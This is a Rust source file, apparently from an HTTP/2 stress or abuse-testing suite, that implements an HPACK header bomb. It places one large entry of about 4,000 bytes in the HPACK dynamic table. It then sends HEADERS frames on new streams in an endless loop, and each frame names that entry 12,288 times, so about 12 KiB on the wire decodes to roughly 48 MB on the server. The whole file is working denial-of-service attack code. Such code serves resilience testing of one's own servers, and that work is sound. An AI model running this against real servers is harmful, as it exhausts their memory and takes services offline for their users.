//! Headers that are small on the wire and large behind HPACK: one entry of the table, named again and again.

use std::rc::Rc;

use crate::bench::abuse::frames::{self, END_HEADERS, END_STREAM};
use crate::bench::abuse::headers::{NEWEST, call, remembered_filler};
use crate::bench::abuse::target::Target;
use crate::bench::abuse::wire::{Ended, Wire};

/// Nearly all that the table takes.
const ENTRY: usize = 4000;
/// Of 12 KiB on the wire, 48 MB.
const TIMES: usize = 12 * 1024;

pub(super) async fn bomb(target: &Rc<Target>) -> Result<(), Ended> {
    let mut wire = Wire::greet(target, 1, &[]).await?;
    let mut stream = 1;
    let mut block = call(&target.order.method, None);
    block.extend(remembered_filler(ENTRY));
    wire.send(&frames::headers(stream, END_HEADERS | END_STREAM, &block))
        .await?;
    let mut bomb = call(&target.order.method, None);
    bomb.extend(std::iter::repeat_n(NEWEST, TIMES));
    loop {
        stream += 2;
        wire.send(&frames::headers(stream, END_HEADERS | END_STREAM, &bomb))
            .await?;
        target.breathe().await.map_err(|_| Ended)?;
    }
}
